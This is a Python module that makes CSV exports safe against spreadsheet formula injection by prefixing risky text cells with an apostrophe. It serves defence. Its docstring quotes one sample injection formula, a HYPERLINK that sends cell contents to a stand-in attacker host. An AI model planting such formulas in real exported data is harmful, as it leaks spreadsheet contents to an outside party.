"""CSV that is safe to open in a spreadsheet: every CSV Hearth writes goes through `csv_writer`.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is run as a formula when the file is opened:
a post title like `=HYPERLINK("https://evil.example/?"&A1, "click")` would leak the sheet.
Such text cells get a leading apostrophe, which spreadsheets show as text and hide. Numbers are
written as numbers (-3 stays -3).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value to write: text that a spreadsheet would run is neutralised."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """A csv.writer whose every text cell goes through `cell`."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)
